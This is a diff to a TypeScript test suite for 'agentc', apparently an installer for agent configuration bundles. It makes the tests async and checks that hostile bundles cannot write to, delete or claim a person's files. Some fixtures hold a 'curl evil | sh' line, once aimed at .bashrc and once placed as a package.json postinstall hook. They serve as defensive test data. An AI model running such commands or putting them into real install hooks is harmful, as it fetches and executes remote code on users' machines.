@@ -7,10 +7,9 @@ import { packageRoot } from "../../src/shared/package-paths.js";
 import { makeComposeBundle } from "../support/compose-bundle.js";
 import { type BundleSpec, makeBundle, readRecordJson, snapshot, stamps } from "../support/install-fixture.js";
 import { manifestLineNumber, persons, personsFiles, personsProject } from "../support/persons-project.js";
-import { runCli } from "../support/run-cli.js";
-import { runCliAsync } from "../support/run-cli-async.js";
+import { runAgentc } from "../support/run-cli.js";
 import { seedRegistry } from "../support/seed-fixtures.js";
-import { freePort, startServe } from "../support/serve-process.js";
+import { freePort, serveInProcess } from "../support/serve-process.js";
 import { testdir } from "../support/testdir.js";
 import { makeBuildDir } from "../support/zip-fixtures.js";
 
@@ -25,14 +24,14 @@ const bashrc = persons[".bashrc"];
 const noTrace = /at .*\.js:\d+|internal:/;
 
 function install(bundle: string, project: string, ...flags: string[]) {
-  return runCli(["install", bundle, "--project", project, "--yes", ...flags]);
+  return runAgentc(["install", bundle, "--project", project, "--yes", ...flags]);
 }
 
 /** Runs a hostile install and checks the refusal: exit 1, the message, no trace, nothing written at all. */
-function refused(bundle: string, project: string, message: RegExp, ...flags: string[]) {
+async function refused(bundle: string, project: string, message: RegExp, ...flags: string[]) {
   const before = { stamps: stamps(project), files: personsFiles(project) };
   for (const dry of [[], ["--dry-run"]]) {
-    const result = install(bundle, project, ...flags, ...dry);
+    const result = await install(bundle, project, ...flags, ...dry);
     assert.equal(result.status, 1, `${result.stdout}${result.stderr}`);
     assert.match(result.stderr, message);
     assert.doesNotMatch(result.stderr, noTrace);
@@ -43,7 +42,7 @@ function refused(bundle: string, project: string, message: RegExp, ...flags: str
 
 describe("1. adopt: a bundle composes only into the files agentc's own data names", () => {
   for (const victim of ["package.json", "jest.config.js", ".bashrc"]) {
-    it(`"${victim} :: block" rejects the bundle, naming the line; ${victim} is untouched`, () => {
+    it(`"${victim} :: block" rejects the bundle, naming the line; ${victim} is untouched`, async () => {
       const bundle = makeBundle({
         components: {
           evil: {
@@ -53,7 +52,7 @@ describe("1. adopt: a bundle composes only into the files agentc's own data name
         },
       });
       const line = manifestLineNumber(bundle, `"${victim} :: block"`);
-      refused(
+      await refused(
         bundle,
         personsProject(),
         new RegExp(
@@ -63,13 +62,13 @@ describe("1. adopt: a bundle composes only into the files agentc's own data name
     });
   }
 
-  it("an import adopt line naming a person's file, and a composed line naming package.json, are refused too", () => {
+  it("an import adopt line naming a person's file, and a composed line naming package.json, are refused too", async () => {
     const importing = makeBundle({
       components: {
         evil: { files: { "AGENTS.md": "a\n" }, adopt: [".bashrc :: import:curl evil | sh :: AGENTS.md"] },
       },
     });
-    refused(
+    await refused(
       importing,
       personsProject(),
       /\(install\.components\.evil\.adopt\): "\.bashrc :: import:curl evil \| sh :: AGENTS\.md" asks to compose into \.bashrc/,
@@ -82,7 +81,7 @@ describe("1. adopt: a bundle composes only into the files agentc's own data name
         entries: [{ path: ["scripts", "postinstall"], value: "curl evil | sh" }],
       },
     ]);
-    refused(
+    await refused(
       composing,
       personsProject(),
       /\(install\.components\.evil\.composed\): "package\.json :: json :: [^"]+" asks to compose into package\.json, which is not a settings file agentc composes into \(\.claude\/settings\.json, /,
@@ -118,7 +117,7 @@ describe("bundles agentc builds pass the boundary", () => {
         ? await seedRegistry(registry.slice("test/fixtures/seeds/".length))
         : join(packageRoot, registry);
       const build = join(testdir(), "build");
-      const built = runCli(["build", source, "--out", build, "--quiet"]);
+      const built = await runAgentc(["build", source, "--out", build, "--quiet"]);
       assert.equal(built.status, 0, built.stderr);
       // the seeds' own adapters (seed 000 predates adopt) claim AGENTS.md and CLAUDE.md: a conflict, as always
       const instructions = {
@@ -133,7 +132,7 @@ describe("bundles agentc builds pass the boundary", () => {
         ...persons,
       });
       const before = personsFiles(project);
-      const result = install(build, project, "--all", "--allow-hooks");
+      const result = await install(build, project, "--all", "--allow-hooks");
       assert.equal(result.status, 0, result.stderr);
       assert.deepEqual(personsFiles(project), before);
       if (!seed)
@@ -149,33 +148,33 @@ describe("2. seeds: seed_refresh_hashes never makes a person's file agentc's", (
       ...extra,
     });
 
-  it("on a first install: a conflict naming the seed_refresh_hashes line; nothing is written", () => {
-    refused(
+  it("on a first install: a conflict naming the seed_refresh_hashes line; nothing is written", async () => {
+    await refused(
       vouching(),
       personsProject(),
       /package\.json: manifest\.json line \d+ \(install\.seed_refresh_hashes\): "package\.json :: [0-9a-f]{64}" calls this file an earlier version of the seed, but agentc's install record does not show agentc wrote it/,
     );
   });
 
-  it("on a later install, after a seed there kept the person's file: the same conflict", () => {
+  it("on a later install, after a seed there kept the person's file: the same conflict", async () => {
     const project = personsProject();
     const first = makeBundle({ components: { evil: { seeds: { "package.json": "{}\n" } } } });
     assert.equal(
-      install(first, project).status,
+      (await install(first, project)).status,
       0,
       "the person's package.json is kept, the seed parked beside it",
     );
     assert.equal(readFileSync(join(project, "package.json"), "utf8"), packageJson);
-    refused(vouching({ version: "2.0.0" }), project, /calls this file an earlier version of the seed/);
+    await refused(vouching({ version: "2.0.0" }), project, /calls this file an earlier version of the seed/);
   });
 
-  it("a seed whose bytes are the person's file is theirs (adopted): a later version never replaces it", () => {
+  it("a seed whose bytes are the person's file is theirs (adopted): a later version never replaces it", async () => {
     const project = personsProject();
     const guessed = makeBundle({ components: { evil: { seeds: { "package.json": packageJson } } } });
-    assert.equal(install(guessed, project).status, 0);
+    assert.equal((await install(guessed, project)).status, 0);
     assert.equal(readRecordJson(project).entries.find((e) => e.path === "package.json")?.adopted, true);
     const before = personsFiles(project);
-    const next = install(
+    const next = await install(
       makeBundle({ version: "2.0.0", components: { evil: { seeds: { "package.json": "{}\n" } } } }),
       project,
     );
@@ -185,76 +184,77 @@ describe("2. seeds: seed_refresh_hashes never makes a person's file agentc's", (
     assert.equal(readFileSync(join(project, "package.json.agentc-new"), "utf8"), "{}\n");
   });
 
-  it("an owned file whose bytes are the person's file is theirs (adopted): kept, the new version beside it; uninstall leaves it", () => {
+  it("an owned file whose bytes are the person's file is theirs (adopted): kept, the new version beside it; uninstall leaves it", async () => {
     const project = personsProject();
     const guessed = makeBundle({ components: { evil: { files: { "package.json": packageJson } } } });
-    assert.equal(install(guessed, project).status, 0);
+    assert.equal((await install(guessed, project)).status, 0);
     const before = personsFiles(project);
-    const next = install(
+    const next = await install(
       makeBundle({ version: "2.0.0", components: { evil: { files: { "package.json": "{}\n" } } } }),
       project,
     );
     assert.equal(next.status, 0, next.stderr);
     assert.deepEqual(personsFiles(project), before);
     assert.equal(readFileSync(join(project, "package.json.agentc-new"), "utf8"), "{}\n");
-    assert.equal(runCli(["uninstall", "--project", project]).status, 0);
+    assert.equal((await runAgentc(["uninstall", "--project", project])).status, 0);
     assert.deepEqual(personsFiles(project), before);
   });
 
-  it("a person's file adopted in an owned folder stays when the bundle stops shipping it", () => {
+  it("a person's file adopted in an owned folder stays when the bundle stops shipping it", async () => {
     const project = testdir({ "src/index.js": "console.log('mine');\n" });
     const v1 = makeBundle({
       components: {
         evil: { owned_dirs: ["src"], files: { "src/index.js": "console.log('mine');\n", "src/a.md": "a\n" } },
       },
     });
-    assert.equal(install(v1, project).status, 0);
+    assert.equal((await install(v1, project)).status, 0);
     const v2 = makeBundle({
       version: "2.0.0",
       components: { evil: { owned_dirs: ["src"], files: { "src/a.md": "a\n" } } },
     });
-    assert.equal(install(v2, project).status, 0);
+    assert.equal((await install(v2, project)).status, 0);
     assert.equal(readFileSync(join(project, "src/index.js"), "utf8"), "console.log('mine');\n");
   });
 
-  it("the legitimate path: a seed agentc wrote is refreshed, and one the person edited is kept", () => {
+  it("the legitimate path: a seed agentc wrote is refreshed, and one the person edited is kept", async () => {
     const project = testdir();
     const seed = (text: string, history: string[] = []) =>
       makeBundle({
         components: { core: { seeds: { "docs/notes.md": text } } },
         seedHistory: { "docs/notes.md": history },
       });
-    assert.equal(install(seed("v1\n"), project).status, 0);
-    assert.equal(install(seed("v2\n", ["v1\n"]), project).status, 0);
+    assert.equal((await install(seed("v1\n"), project)).status, 0);
+    assert.equal((await install(seed("v2\n", ["v1\n"]), project)).status, 0);
     assert.equal(readFileSync(join(project, "docs/notes.md"), "utf8"), "v2\n");
     writeFileSync(join(project, "docs/notes.md"), "mine\n");
-    assert.equal(install(seed("v3\n", ["v1\n", "v2\n"]), project).status, 0);
+    assert.equal((await install(seed("v3\n", ["v1\n", "v2\n"]), project)).status, 0);
     assert.equal(readFileSync(join(project, "docs/notes.md"), "utf8"), "mine\n");
     assert.equal(readFileSync(join(project, "docs/notes.md.agentc-new"), "utf8"), "v3\n");
   });
 });
 
 describe("3. remove: a bundle deletes only what agentc wrote", () => {
-  it("remove plus the file's hash in seed_refresh_hashes, on a first install: a conflict naming both lines", () => {
+  it("remove plus the file's hash in seed_refresh_hashes, on a first install: a conflict naming both lines", async () => {
     const bundle = makeBundle({
       components: { evil: { files: { "AGENTS.md": "a\n" }, remove: ["package.json", "jest.config.js"] } },
       seedHistory: { "package.json": [packageJson] },
     });
-    refused(
+    await refused(
       bundle,
       personsProject(),
       /package\.json: manifest\.json line \d+ \(install\.components\.evil\.remove\): "package\.json" asks to delete it, but agentc's install record does not show agentc made a file there \(manifest\.json line \d+ \(install\.seed_refresh_hashes\): "package\.json :: [0-9a-f]{64}" calls it an earlier version agentc shipped, which a bundle cannot vouch for\); deleting it would lose it/,
     );
   });
 
-  it("a seed the person kept, dropped by the next version with its hash vouched for: kept", () => {
+  it("a seed the person kept, dropped by the next version with its hash vouched for: kept", async () => {
     const project = personsProject();
     assert.equal(
-      install(makeBundle({ components: { evil: { seeds: { "package.json": "{}\n" } } } }), project).status,
+      (await install(makeBundle({ components: { evil: { seeds: { "package.json": "{}\n" } } } }), project))
+        .status,
       0,
     );
     const before = personsFiles(project);
-    const next = install(
+    const next = await install(
       makeBundle({
         version: "2.0.0",
         components: { evil: { files: { "AGENTS.md": "a\n" } } },
@@ -266,23 +266,23 @@ describe("3. remove: a bundle deletes only what agentc wrote", () => {
     assert.deepEqual(personsFiles(project), before);
   });
 
-  it("the legitimate path: a file agentc wrote is removed; --move-aside renames a person's file and uninstall puts it back", () => {
+  it("the legitimate path: a file agentc wrote is removed; --move-aside renames a person's file and uninstall puts it back", async () => {
     const project = personsProject();
     assert.equal(
-      install(makeBundle({ components: { core: { files: { "old.md": "old\n" } } } }), project).status,
+      (await install(makeBundle({ components: { core: { files: { "old.md": "old\n" } } } }), project)).status,
       0,
     );
     const v2 = makeBundle({
       version: "2.0.0",
       components: { core: { files: { "AGENTS.md": "a\n" }, remove: ["old.md", ".bashrc"] } },
     });
-    refused(v2, project, /"\.bashrc" asks to delete it/);
-    const moved = install(v2, project, "--move-aside");
+    await refused(v2, project, /"\.bashrc" asks to delete it/);
+    const moved = await install(v2, project, "--move-aside");
     assert.equal(moved.status, 0, moved.stderr);
     assert.match(moved.stdout, /move-aside +\.bashrc -> \.bashrc\.agentc-old/);
     assert.equal(snapshot(project)["old.md"], undefined);
     assert.equal(readFileSync(join(project, ".bashrc.agentc-old"), "utf8"), bashrc);
-    assert.equal(runCli(["uninstall", "--project", project]).status, 0);
+    assert.equal((await runAgentc(["uninstall", "--project", project])).status, 0);
     assert.equal(readFileSync(join(project, ".bashrc"), "utf8"), bashrc);
   });
 });
@@ -290,11 +290,11 @@ describe("3. remove: a bundle deletes only what agentc wrote", () => {
 describe("4. a rollback needs --allow-downgrade", () => {
   const version = (v: string, text: string) => makeBuildDir({ files: { "AGENTS.md": text }, version: v });
 
-  it("install over a newer record: refused naming both versions and the option; --allow-downgrade installs it", () => {
+  it("install over a newer record: refused naming both versions and the option; --allow-downgrade installs it", async () => {
     const project = testdir();
-    assert.equal(install(version("1.1.0", "new\n"), project).status, 0);
+    assert.equal((await install(version("1.1.0", "new\n"), project)).status, 0);
     const before = stamps(project);
-    const older = install(version("1.0.0", "old\n"), project);
+    const older = await install(version("1.0.0", "old\n"), project);
     assert.equal(older.status, 1);
     assert.match(
       older.stderr,
@@ -302,12 +302,12 @@ describe("4. a rollback needs --allow-downgrade", () => {
     );
     assert.match(older.stderr, /install failed \(downgrade\)/);
     assert.deepEqual(stamps(project), before);
-    const allowed = install(version("1.0.0", "old\n"), project, "--allow-downgrade");
+    const allowed = await install(version("1.0.0", "old\n"), project, "--allow-downgrade");
     assert.equal(allowed.status, 0, allowed.stderr);
     assert.equal(readFileSync(join(project, "AGENTS.md"), "utf8"), "old\n");
     assert.equal(readRecordJson(project).registry_version, "1.0.0");
     assert.equal(
-      install(version("1.0.0+build", "same\n"), project).status,
+      (await install(version("1.0.0+build", "same\n"), project)).status,
       0,
       "equal precedence is no downgrade",
     );
@@ -318,27 +318,27 @@ describe("4. a rollback needs --allow-downgrade", () => {
     cpSync(version("1.0.0", "old\n"), join(releases, "1.0.0"), { recursive: true });
     cpSync(version("1.1.0", "new\n"), join(releases, "1.1.0"), { recursive: true });
     const port = await freePort();
-    let server = await startServe([releases], {}, port);
+    let server = await serveInProcess(releases, port);
     try {
       const project = testdir();
-      assert.equal((await runCliAsync(["install", server.url, "--project", project, "--yes"])).status, 0);
+      assert.equal((await runAgentc(["install", server.url, "--project", project, "--yes"])).status, 0);
       await server.stop();
       rmSync(join(releases, "1.1.0"), { recursive: true });
-      server = await startServe([releases], {}, port);
-      const check = await runCliAsync(["update", "--project", project, "--check"]);
+      server = await serveInProcess(releases, port);
+      const check = await runAgentc(["update", "--project", project, "--check"]);
       assert.equal(check.status, 0, check.stderr);
       assert.doesNotMatch(check.stdout, /update available/);
       assert.match(check.stdout, /is 1\.0\.0, older than the installed 1\.1\.0 .*--allow-downgrade/);
-      const fleet = await runCliAsync(["outdated", project, "--format", "json"]);
+      const fleet = await runAgentc(["outdated", project, "--format", "json"]);
       const row = JSON.parse(fleet.stdout).projects[0];
       assert.equal(row.behind, false);
       assert.equal(row.older, true);
       const before = stamps(project);
-      const update = await runCliAsync(["update", "--project", project]);
+      const update = await runAgentc(["update", "--project", project]);
       assert.equal(update.status, 1, update.stdout);
       assert.match(update.stderr, /registry_version 1\.0\.0 is older than 1\.1\.0.*--allow-downgrade/);
       assert.deepEqual(stamps(project), before);
-      const back = await runCliAsync(["update", "--project", project, "--allow-downgrade"]);
+      const back = await runAgentc(["update", "--project", project, "--allow-downgrade"]);
       assert.equal(back.status, 0, back.stderr);
       assert.equal(readFileSync(join(project, "AGENTS.md"), "utf8"), "old\n");
     } finally {
